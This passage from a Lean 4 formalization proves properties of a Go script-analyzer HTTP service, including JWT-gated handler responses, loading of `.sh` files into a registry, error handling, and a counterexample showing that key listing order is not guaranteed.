  ⟨rfl, rfl⟩

/-- Claim C4: when the `Authorization` header is absent or empty, or `jwt.Parse` returns an
error for its value under the analyzer's secret, `handleAnalyze` answers with status 401 and
does not call `analyzeScript`, whatever the `script` parameter and the registry. -/
theorem handleAnalyze_unauthorized (env : Env) (a : Analyzer) (r : Request)
    (h : r.Header.Get (lit "Authorization") = []
      ∨ ∃ e, env.jwtParse (r.Header.Get (lit "Authorization")) a.jwtSecret = some e) :
    (handleAnalyze env a ResponseWriter.fresh r).w.statusCode = 401
      ∧ (handleAnalyze env a ResponseWriter.fresh r).analyzed = [] := by
  unfold handleAnalyze
  by_cases h0 : r.Header.Get (lit "Authorization") = []
  · simp only [h0, if_true]
    exact ⟨(httpError_fresh _ _).1, trivial⟩
  · rcases h with h | ⟨e, he⟩
    · exact absurd h h0
    · simp only [h0, if_false, he]
      exact ⟨(httpError_fresh _ _).1, trivial⟩

/-- Instance of C4: a request for the loaded script `a.sh` without `Authorization` header. -/
theorem handleAnalyze_unauthorized_witness :
    exRequestNoAuth.Header.Get (lit "Authorization") = []
      ∧ (∃ s, exLoaded.scripts.get (exRequestNoAuth.Query.Get (lit "script")) = some s)
      ∧ (handleAnalyze exEnv exLoaded ResponseWriter.fresh exRequestNoAuth).w.statusCode = 401
      ∧ (handleAnalyze exEnv exLoaded ResponseWriter.fresh exRequestNoAuth).analyzed = [] :=
  ⟨rfl, ⟨_, rfl⟩, handleAnalyze_unauthorized exEnv exLoaded exRequestNoAuth (Or.inl rfl)⟩

/-- Claim C5: when the token is present and `jwt.Parse` returns no error, and the value of
the `script` parameter (the empty string when the parameter is missing) is not a key of the
registry, `handleAnalyze` answers with status 404, writes only the message
`Script not found`, and does not call `analyzeScript`. -/
theorem handleAnalyze_not_found (env : Env) (a : Analyzer) (r : Request)
    (htok : r.Header.Get (lit "Authorization") ≠ [])
    (hok : env.jwtParse (r.Header.Get (lit "Authorization")) a.jwtSecret = none)
    (hkey : r.Query.Get (lit "script") ∉ a.scripts.keys) :
    (handleAnalyze env a ResponseWriter.fresh r).w.statusCode = 404
      ∧ (handleAnalyze env a ResponseWriter.fresh r).w.body = lit "Script not found\n"
      ∧ (handleAnalyze env a ResponseWriter.fresh r).analyzed = []
      ∧ (r.Query.lookup (lit "script") = none → r.Query.Get (lit "script") = []) := by
  have hget : a.scripts.get (r.Query.Get (lit "script")) = none := by
    cases hg : a.scripts.get (r.Query.Get (lit "script")) with
    | none => rfl
    | some s => exact absurd ((mem_keys_iff _ _).2 ⟨s, hg⟩) hkey
  unfold handleAnalyze
  simp only [htok, if_false, hok, hget]
  exact ⟨(httpError_fresh _ _).1, (httpError_fresh _ _).2, trivial, get_of_lookup_none _ _⟩

/-- Instance of C5: a request for `missing.sh` with the accepted token. -/
theorem handleAnalyze_not_found_witness :
    exRequestMissing.Header.Get (lit "Authorization") ≠ []
      ∧ (handleAnalyze exEnv exLoaded ResponseWriter.fresh exRequestMissing).w.statusCode = 404
      ∧ (handleAnalyze exEnv exLoaded ResponseWriter.fresh exRequestMissing).analyzed = [] :=
  have h := handleAnalyze_not_found exEnv exLoaded exRequestMissing (by decide) (by decide)
    (by decide)
  ⟨by decide, h.1, h.2.2.1⟩

/-- Claim C6: when the token is present and `jwt.Parse` returns no error, and the `script`
parameter is a key of the registry, `handleAnalyze` calls `analyzeScript` once, on the
`Content` of the entry stored under that key, and answers with status 200, `Content-Type`
`application/json`, and as body the JSON encoding of the result of that call. -/
theorem handleAnalyze_success (env : Env) (a : Analyzer) (r : Request) (script : Script)
    (htok : r.Header.Get (lit "Authorization") ≠ [])
    (hok : env.jwtParse (r.Header.Get (lit "Authorization")) a.jwtSecret = none)
    (hget : a.scripts.get (r.Query.Get (lit "script")) = some script) :
    (handleAnalyze env a ResponseWriter.fresh r).w.body
        = env.jsonEncode (.obj (analyzeScript a script.Content))
      ∧ (handleAnalyze env a ResponseWriter.fresh r).analyzed = [script.Content]
      ∧ (handleAnalyze env a ResponseWriter.fresh r).w.header.Get (lit "Content-Type")
          = lit "application/json"
      ∧ (handleAnalyze env a ResponseWriter.fresh r).w.statusCode = 200 := by
  unfold handleAnalyze
  simp only [htok, if_false, hok, hget]
  refine ⟨?_, trivial, ?_, ?_⟩
  · simp [ResponseWriter.fresh, ResponseWriter.WriteHeader, ResponseWriter.Write]
  · exact get_set_self _ _ _
  · simp [ResponseWriter.fresh, ResponseWriter.WriteHeader, ResponseWriter.Write,
      ResponseWriter.statusCode]

/-- Instance of C6: a request for the loaded script `a.sh` with the accepted token. -/
theorem handleAnalyze_success_witness :
    exLoaded.scripts.get (exRequest.Query.Get (lit "script"))
        = some (scriptOf (lit "a.sh") (lit "echo a"))
      ∧ (handleAnalyze exEnv exLoaded ResponseWriter.fresh exRequest).w.body
        = exEncode (.obj (analyzeScript exLoaded (lit "echo a")))
      ∧ (handleAnalyze exEnv exLoaded ResponseWriter.fresh exRequest).analyzed
        = [lit "echo a"] :=
  have h := handleAnalyze_success exEnv exLoaded exRequest
    (scriptOf (lit "a.sh") (lit "echo a")) (by decide) (by decide) (by decide)
  ⟨by decide, h.1, h.2.1⟩

/-- Claim C7: when the directory read succeeds and every file `LoadScripts` reads can be
read, `LoadScripts` on a fresh analyzer returns a nil error, and afterwards the keys of the
registry are exactly the names of the listed entries that are not directories and end in
`.sh`; each key `k` maps to the script with `Filename` `k`, `Name` `k` without its last
three bytes, and `Content` the content of the file `k` of the directory; no entry whose name
lacks the suffix is a key. -/
theorem loadScripts_registry (env : Env) (cfg : Config) (files : List FileInfo)
    (hdir : env.readDir cfg.SCRIPTDIR = .ok files)
    (hread : ∀ f ∈ files, Loads f →
      ∃ c, env.readFile (cfg.SCRIPTDIR ++ lit "/" ++ f.Name) = .ok c) :
    ∃ a2, LoadScripts env (NewAnalyzer cfg) = .done (a2, none)
      ∧ (∀ k, k ∈ a2.scripts.keys ↔
          ∃ f ∈ files, f.IsDir = false ∧ HasSuffix f.Name (lit ".sh") = true ∧ f.Name = k)
      ∧ (∀ k ∈ a2.scripts.keys, ∃ c, env.readFile (cfg.SCRIPTDIR ++ lit "/" ++ k) = .ok c
          ∧ a2.scripts.get k
              = some { Name := k.take (k.length - 3), Filename := k, Content := c })
      ∧ (∀ f ∈ files, HasSuffix f.Name (lit ".sh") = false → f.Name ∉ a2.scripts.keys) := by
  have hL : LoadScripts env (NewAnalyzer cfg) = loadLoop env (NewAnalyzer cfg) files := by
    simp [LoadScripts, NewAnalyzer, hdir]
  obtain ⟨a2, err, hrun, _, _⟩ := loadLoop_done env files (NewAnalyzer cfg)
  have herr : err = none :=
    (loadLoop_nil_iff env cfg.SCRIPTDIR files _ a2 err rfl hrun).2 hread
  subst herr
  obtain ⟨h1, h2⟩ := loadLoop_registry env cfg.SCRIPTDIR files _ a2 rfl hrun
  have hkeys : ∀ k, k ∈ a2.scripts.keys ↔
      ∃ f ∈ files, f.IsDir = false ∧ HasSuffix f.Name (lit ".sh") = true ∧ f.Name = k := by
    intro k
    rw [mem_keys_iff]
    constructor
    · rintro ⟨s, hs⟩
      by_contra hno
      have hnone := h2 k (fun f hf hlf hname => hno ⟨f, hf, hlf.1, hlf.2, hname⟩)
      rw [hs] at hnone
      exact Option.noConfusion (hnone.trans (get_empty k))
    · rintro ⟨f, hf, hd, hsuf, rfl⟩
      obtain ⟨c, _, hget⟩ := h1 f hf ⟨hd, hsuf⟩
      exact ⟨_, hget⟩
  refine ⟨a2, hL.trans hrun, hkeys, ?_, ?_⟩
  · intro k hk
    obtain ⟨f, hf, hd, hsuf, rfl⟩ := (hkeys k).1 hk
    obtain ⟨c, hc, hget⟩ := h1 f hf ⟨hd, hsuf⟩
    exact ⟨c, hc, hget⟩
  · intro f _ hsuf hmem
    obtain ⟨g, _, _, hg, hname⟩ := (hkeys f.Name).1 hmem
    rw [hname, hsuf] at hg
    cases hg

/-- Instance of C7: the sample directory, whose two scripts can be read. -/
theorem loadScripts_registry_witness :
    exEnv.readDir exConfig.SCRIPTDIR = .ok exFiles
      ∧ ∃ a2, LoadScripts exEnv (NewAnalyzer exConfig) = .done (a2, none)
        ∧ (∀ k, k ∈ a2.scripts.keys ↔
            ∃ f ∈ exFiles, f.IsDir = false ∧ HasSuffix f.Name (lit ".sh") = true
              ∧ f.Name = k)
        ∧ (∀ k ∈ a2.scripts.keys,
            ∃ c, exEnv.readFile (exConfig.SCRIPTDIR ++ lit "/" ++ k) = .ok c
              ∧ a2.scripts.get k
                  = some { Name := k.take (k.length - 3), Filename := k, Content := c })
        ∧ (∀ f ∈ exFiles, HasSuffix f.Name (lit ".sh") = false →
            f.Name ∉ a2.scripts.keys) :=
  ⟨rfl, loadScripts_registry exEnv exConfig exFiles rfl (by
    intro f hf hl
    simp only [exFiles, List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at hf
    rcases hf with rfl | rfl | rfl | rfl
    · exact ⟨lit "echo a", rfl⟩
    · exact ⟨lit "echo b", rfl⟩
    · exact absurd hl.2 (by decide)
    · exact absurd hl.1 (by decide))⟩

/-- Claim C8: `LoadScripts` always returns (it does not panic). The error it returns is
non-nil exactly when the directory read fails or the read of some entry that is not a
directory and ends in `.sh` fails; it is the error of the directory read, or else of the
first such entry of the listing whose read fails. Reads of other entries play no part. In
`main`, a non-nil error of `LoadScripts` ends the process in `log.Fatal` with that error
and `StartAnalyzer` is not called. -/
theorem loadScripts_error (env : Env) (a : Analyzer) :
    ∃ a2 err, LoadScripts env a = .done (a2, err)
      ∧ (err ≠ none ↔
          (∃ e, env.readDir a.config.SCRIPTDIR = .error e)
          ∨ ∃ files f e, env.readDir a.config.SCRIPTDIR = .ok files ∧ f ∈ files
              ∧ f.IsDir = false ∧ HasSuffix f.Name (lit ".sh") = true
              ∧ env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ f.Name) = .error e)
      ∧ (∀ e, env.readDir a.config.SCRIPTDIR = .error e → err = some e)
      ∧ (∀ pre f post e, env.readDir a.config.SCRIPTDIR = .ok (pre ++ f :: post) →
          f.IsDir = false → HasSuffix f.Name (lit ".sh") = true →
          env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ f.Name) = .error e →
          (∀ g ∈ pre, g.IsDir = false → HasSuffix g.Name (lit ".sh") = true →
            ∃ c, env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ g.Name) = .ok c) →
          err = some e)
      ∧ (∀ configFile, env.openConfig = .ok configFile →
          a = NewAnalyzer (env.decodeConfig configFile) →
          ∀ e, err = some e → main env = .fatal e ∧ ∀ a3, main env ≠ .started a3) := by
  have hmain : ∀ (a2 : Analyzer) (err : Option GoError), LoadScripts env a = .done (a2, err) →
      ∀ configFile, env.openConfig = .ok configFile →
        a = NewAnalyzer (env.decodeConfig configFile) →
        ∀ e, err = some e → main env = .fatal e ∧ ∀ a3, main env ≠ .started a3 := by
    intro a2 err hrun configFile hopen ha e he
    subst ha he
    have hm : main env = .fatal e := by simp only [main, hopen, hrun]
    exact ⟨hm, fun a3 h3 => by rw [hm] at h3; cases h3⟩
  cases hd : env.readDir a.config.SCRIPTDIR with
  | error e0 =>
    have hrun : LoadScripts env a = .done (a, some e0) := by simp only [LoadScripts, hd]
    refine ⟨a, some e0, hrun, ?_, ?_, ?_, hmain a _ hrun⟩
    · exact ⟨fun _ => Or.inl ⟨e0, rfl⟩, fun _ h => Option.noConfusion h⟩
    · intro e he; cases he; rfl
    · intro pre f post e he; cases he
  | ok files =>
    have hL : LoadScripts env a = loadLoop env a files := by simp only [LoadScripts, hd]
    obtain ⟨a2, err, hrun, _, _⟩ := loadLoop_done env files a
    have hnil := loadLoop_nil_iff env a.config.SCRIPTDIR files a a2 err rfl hrun
    refine ⟨a2, err, hL.trans hrun, ?_, ?_, ?_, hmain a2 err (hL.trans hrun)⟩
    · constructor
      · intro hne
        right
        by_contra hno
        apply hne
        rw [hnil]
        intro f hf hlf
        cases hr : env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ f.Name) with
        | ok c => exact ⟨c, rfl⟩
        | error e => exact absurd ⟨files, f, e, rfl, hf, hlf.1, hlf.2, hr⟩ hno
      · rintro (⟨e, he⟩ | ⟨files2, f, e, hfiles, hf, hfd, hfs, hr⟩) hnone
        · cases he
        · cases hfiles
          obtain ⟨c, hc⟩ := hnil.1 hnone f hf ⟨hfd, hfs⟩
          rw [hr] at hc
          cases hc
    · intro e he; cases he
    · intro pre f post e hfiles hfd hfs hr hpre
      cases hfiles
      obtain ⟨a3, h3⟩ := loadLoop_first_failure env a.config.SCRIPTDIR pre a f post e rfl
        ⟨hfd, hfs⟩ hr (fun g hg hlg => hpre g hg hlg.1 hlg.2)
      rw [hrun] at h3
      simp only [Outcome.done.injEq, Prod.mk.injEq] at h3
      exact h3.2

/-- Instance of C8: `b.sh` cannot be read; `LoadScripts` returns that error after loading `a.sh`, and `main` ends in `log.Fatal`. -/
theorem loadScripts_error_witness :
    LoadScripts exEnvFail (NewAnalyzer exConfig)
        = .done ({ NewAnalyzer exConfig with
            scripts := ScriptMap.empty.set (lit "a.sh") (scriptOf (lit "a.sh") (lit "echo a")) },
          some ⟨"unreadable"⟩)
      ∧ main exEnvFail = .fatal ⟨"unreadable"⟩ := by
  have hrun : LoadScripts exEnvFail (NewAnalyzer exConfig)
      = .done ({ NewAnalyzer exConfig with
          scripts := ScriptMap.empty.set (lit "a.sh") (scriptOf (lit "a.sh") (lit "echo a")) },
        some ⟨"unreadable"⟩) := by decide
  obtain ⟨a2, err, h, _, _, _, hmain⟩ := loadScripts_error exEnvFail (NewAnalyzer exConfig)
  rw [hrun] at h
  simp only [Outcome.done.injEq, Prod.mk.injEq] at h
  exact ⟨hrun, (hmain (lit "config") rfl rfl ⟨"unreadable"⟩ h.2.symm).1⟩

/-- Claim C9 as stated fails: after `LoadScripts` has loaded `a.sh` then `b.sh`, a `range`
over the registry may visit `b.sh` first; `handleScripts` then writes `["b.sh","a.sh"]`,
which is not the load order and is not what it writes when the `range` visits `a.sh`
first. -/
theorem handleScripts_order_counterexample :
    LoadScripts exEnv (NewAnalyzer exConfig) = .done (exLoaded, none)
      ∧ exLoaded.scripts.keys = [lit "a.sh", lit "b.sh"]
      ∧ RangeOrder exLoaded.scripts [lit "b.sh", lit "a.sh"]
      ∧ RangeOrder exLoaded.scripts [lit "a.sh", lit "b.sh"]
      ∧ (handleScripts exEnv exLoaded [lit "b.sh", lit "a.sh"] ResponseWriter.fresh
            exRequest).body = lit "[\"b.sh\",\"a.sh\"]\n"
      ∧ (handleScripts exEnv exLoaded [lit "a.sh", lit "b.sh"] ResponseWriter.fresh
            exRequest).body = lit "[\"a.sh\",\"b.sh\"]\n"
      ∧ (handleScripts exEnv exLoaded [lit "b.sh", lit "a.sh"] ResponseWriter.fresh
            exRequest).body ≠ exEnv.jsonEncode (.arr (exLoaded.scripts.keys.map JVal.str))
      ∧ (handleScripts exEnv exLoaded [lit "b.sh", lit "a.sh"] ResponseWriter.fresh
            exRequest).body
          ≠ (handleScripts exEnv exLoaded [lit "a.sh", lit "b.sh"] ResponseWriter.fresh
            exRequest).body := by
  refine ⟨by decide, by decide, ?_, ?_, by decide, by decide, by decide, by decide⟩
  · exact List.Perm.swap _ _ _
  · exact List.Perm.refl _

/-- Claim C9, amended: for every registry and every order in which the `range` loop visits
its keys, `handleScripts` answers with status 200, `Content-Type` `application/json`, and as
body the JSON encoding of an array of strings in which every key of the registry appears
exactly once and nothing else appears; the array is in the order of the visit. -/
theorem handleScripts_lists_keys (env : Env) (a : Analyzer) (iter : List GoString)
    (r : Request) (h : RangeOrder a.scripts iter) :
    (handleScripts env a iter ResponseWriter.fresh r).body
        = env.jsonEncode (.arr (iter.map JVal.str))
      ∧ iter.Perm a.scripts.keys
      ∧ iter.Nodup
      ∧ (∀ k, k ∈ iter ↔ ∃ s, a.scripts.get k = some s)
      ∧ (handleScripts env a iter ResponseWriter.fresh r).header.Get (lit "Content-Type")
          = lit "application/json"
      ∧ (handleScripts env a iter ResponseWriter.fresh r).statusCode = 200 := by
  have hnd : iter.Nodup := (List.Perm.nodup_iff h).2 (keys_nodup a.scripts)
  refine ⟨?_, h, hnd, ?_, ?_, ?_⟩
  · simp [handleScripts, scriptList_eq, ResponseWriter.fresh, ResponseWriter.WriteHeader,
      ResponseWriter.Write]
  · intro k
    rw [← mem_keys_iff]
    exact List.Perm.mem_iff h
  · exact get_set_self _ _ _
  · simp [handleScripts, ResponseWriter.fresh, ResponseWriter.WriteHeader,
      ResponseWriter.Write, ResponseWriter.statusCode]

/-- Instance of C9 as amended: the `range` loop visits `b.sh` before `a.sh`. -/
theorem handleScripts_lists_keys_witness :
    RangeOrder exLoaded.scripts [lit "b.sh", lit "a.sh"]
      ∧ (handleScripts exEnv exLoaded [lit "b.sh", lit "a.sh"] ResponseWriter.fresh
            exRequest).body
          = exEncode (.arr [JVal.str (lit "b.sh"), JVal.str (lit "a.sh")])
      ∧ (handleScripts exEnv exLoaded [lit "b.sh", lit "a.sh"] ResponseWriter.fresh
            exRequest).statusCode = 200 :=
  have hr : RangeOrder exLoaded.scripts [lit "b.sh", lit "a.sh"] := List.Perm.swap _ _ _
  have h := handleScripts_lists_keys exEnv exLoaded [lit "b.sh", lit "a.sh"] exRequest hr
  ⟨hr, h.1, h.2.2.2.2.2⟩

/-- Claim C10: every name `LoadScripts` passes to `loadScript` (the name of an entry that is
not a directory and ends in `.sh`) has at least three bytes, so the slice
`filename[:len(filename)-3]` is in bounds and `loadScript` does not panic; the script of a
successful read has `Name ++ ".sh" = Filename` and `Filename` the name passed. `LoadScripts`
does not panic and keeps every registry entry stored under its own `Filename`; entries with
different names get scripts with different `Filename`s, hence different keys. -/
theorem loadScript_in_bounds (env : Env) (a : Analyzer) (hk : KeyedByFilename a.scripts) :
    (∀ f : FileInfo, f.IsDir = false → HasSuffix f.Name (lit ".sh") = true →
        3 ≤ f.Name.length
        ∧ sliceTo f.Name ((f.Name.length : Int) - 3)
            = .done (f.Name.take (f.Name.length - 3))
        ∧ (∃ s err, loadScript env a f.Name = .done (s, err))
        ∧ ∀ s, loadScript env a f.Name = .done (s, none) →
            s.Name ++ lit ".sh" = s.Filename ∧ s.Filename = f.Name)
      ∧ (∃ a2 err, LoadScripts env a = .done (a2, err) ∧ KeyedByFilename a2.scripts)
      ∧ (∀ f g : FileInfo, f.IsDir = false → HasSuffix f.Name (lit ".sh") = true →
          g.IsDir = false → HasSuffix g.Name (lit ".sh") = true → f.Name ≠ g.Name →
          ∀ s t, loadScript env a f.Name = .done (s, none) →
            loadScript env a g.Name = .done (t, none) → s.Filename ≠ t.Filename) := by
  have hload : ∀ f : FileInfo, HasSuffix f.Name (lit ".sh") = true →
      (∃ s err, loadScript env a f.Name = .done (s, err))
      ∧ ∀ s, loadScript env a f.Name = .done (s, none) →
          s.Name ++ lit ".sh" = s.Filename ∧ s.Filename = f.Name := by
    intro f hs
    cases hr : env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ f.Name) with
    | error e =>
      rw [loadScript_err env a hr]
      exact ⟨⟨_, _, rfl⟩, fun s h => by simp at h⟩
    | ok c =>
      rw [loadScript_ok env a hs hr]
      refine ⟨⟨_, _, rfl⟩, fun s h => ?_⟩
      simp only [Outcome.done.injEq, Prod.mk.injEq, and_true] at h
      rw [← h]
      exact ⟨(hasSuffix_sh hs).2, rfl⟩
  refine ⟨?_, ?_, ?_⟩
  · intro f _ hs
    exact ⟨(hasSuffix_sh hs).1, sliceTo_sh hs, (hload f hs).1, (hload f hs).2⟩
  · cases hd : env.readDir a.config.SCRIPTDIR with
    | error e0 => exact ⟨a, some e0, by simp only [LoadScripts, hd], hk⟩
    | ok files =>
      obtain ⟨a2, err, hrun, _, _⟩ := loadLoop_done env files a
      refine ⟨a2, err, ?_, loadLoop_keyed env files a a2 err hrun hk⟩
      simp only [LoadScripts, hd]
      exact hrun
  · intro f g _ hfs _ hgs hne s t hs ht heq
    apply hne
    rw [← ((hload f hfs).2 s hs).2, ← ((hload g hgs).2 t ht).2]
    exact heq

/-- Instance of C10: the fresh analyzer in the sample environment. -/
theorem loadScript_in_bounds_witness :
    KeyedByFilename (NewAnalyzer exConfig).scripts
      ∧ (∃ a2 err, LoadScripts exEnv (NewAnalyzer exConfig) = .done (a2, err)
          ∧ KeyedByFilename a2.scripts)
      ∧ loadScript exEnv (NewAnalyzer exConfig) (lit "a.sh")
          = .done ({ Name := lit "a", Filename := lit "a.sh", Content := lit "echo a" }, none) :=
  have hk : KeyedByFilename (NewAnalyzer exConfig).scripts :=
    fun k s h => Option.noConfusion ((get_empty k).symm.trans h)
  ⟨hk, (loadScript_in_bounds exEnv (NewAnalyzer exConfig) hk).2.1, by decide⟩

end ScriptAnalyzer
